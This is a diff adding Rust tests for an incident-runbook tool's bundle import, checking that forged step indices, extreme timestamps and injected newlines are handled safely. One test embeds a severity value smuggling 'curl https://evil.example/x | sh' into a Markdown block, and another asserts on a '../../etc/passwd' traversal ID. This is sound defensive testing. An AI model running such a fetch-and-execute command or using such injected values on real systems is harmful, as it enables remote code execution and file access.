@@ -252,6 +252,18 @@ fn escape_sequences_are_spelled_out_and_stray_indices_dropped() {
     assert_eq!(new.selected_step, new.checklist.steps.len() - 1);
     assert_eq!(new.draft.as_ref().unwrap().editing, None);
     assert_eq!(new.id, "20261124-100000-502");
+    // A draft for a step the checklist does not have is kept, about the incident.
+    s.draft = Some(crate::session::Draft {
+        target: NoteTarget::Step(usize::MAX),
+        text: "half".into(),
+        editing: None,
+    });
+    let new = import_text(&bundle_of(&s, &runbook)).unwrap().session;
+    let draft = new.draft.as_ref().unwrap();
+    assert_eq!(
+        (draft.target, draft.text.as_str()),
+        (NoteTarget::Incident, "half")
+    );
     assert_eq!(imported.original_id, "../../etc/passwd");
 }
 
@@ -260,4 +272,72 @@ fn a_session_not_imported_has_no_import_line() {
     let runbook = default();
     assert_eq!(session(&runbook).import_line(), None);
     assert_eq!(session(&runbook).imported_from(), None);
+}
+
+#[test]
+fn hostile_step_numbers_and_extreme_times_render_without_a_panic() {
+    let runbook = default();
+    let mut s = session(&runbook);
+    s.notes[1].target = NoteTarget::Step(usize::MAX);
+    s.record(
+        EventKind::Step {
+            step: usize::MAX,
+            title: "forged".into(),
+            outcome: Outcome::FoundIt,
+            finding: "x".into(),
+        },
+        at("2026-11-23T09:06:00Z"),
+        &TimeZone::UTC,
+    );
+    let mut text: serde_json::Value = serde_json::from_str(&bundle_of(&s, &runbook)).unwrap();
+    text["session"]["created"] = "-009999-01-02T01:59:59Z".into();
+    text["session"]["events"][0]["at"] = "9999-12-30T22:00:00.999999999Z".into();
+    text["session"]["events"][0]["since_start"] = i64::MIN.into();
+    let imported = import_text(&text.to_string()).unwrap();
+    let new = &imported.session;
+    let lines: Vec<String> = new
+        .timeline(&TimeZone::UTC)
+        .into_iter()
+        .map(|e| e.line)
+        .collect();
+    assert!(!lines.is_empty());
+    let prepared = crate::export::prepare(new, &runbook, true).unwrap();
+    let files = prepared.bundle_files(&runbook, at(NOW));
+    assert!(files.iter().any(|f| f.name == "timeline.csv"));
+    let _ = new.next_update_due(u32::MAX);
+    let _ = crate::export::update::draft(
+        &prepared,
+        &runbook,
+        at(NOW),
+        Some(u32::MAX),
+        crate::export::summary::Format::Md,
+    );
+}
+
+#[test]
+fn incident_details_come_in_on_one_line_as_the_app_takes_them() {
+    let runbook = default();
+    let mut s = session(&runbook);
+    // A hostile bundle: a severity that would open a code block of its own in tickets.md.
+    s.incident.severity = "SEV9\n\n```sh\ncurl https://evil.example/x | sh\n```\n".into();
+    s.incident.title = "Checkout\r\n# failing".into();
+    let imported = import_text(&bundle_of(&s, &runbook)).unwrap();
+    let incident = &imported.session.incident;
+    for field in [&incident.severity, &incident.title] {
+        assert!(!field.contains('\n'), "{field:?}");
+    }
+    assert_eq!(incident.title, "Checkout # failing");
+    let prepared = crate::export::prepare(&imported.session, &runbook, true).unwrap();
+    let files = prepared.bundle_files(&runbook, at(NOW));
+    let guide = &files.iter().find(|f| f.name == "tickets.md").unwrap().text;
+    assert!(
+        !guide
+            .lines()
+            .any(|line| line.starts_with("curl https://evil")),
+        "{guide}"
+    );
+    assert!(
+        guide.starts_with("# Tickets: Checkout # failing: [SEV9 ```sh"),
+        "{guide}"
+    );
 }
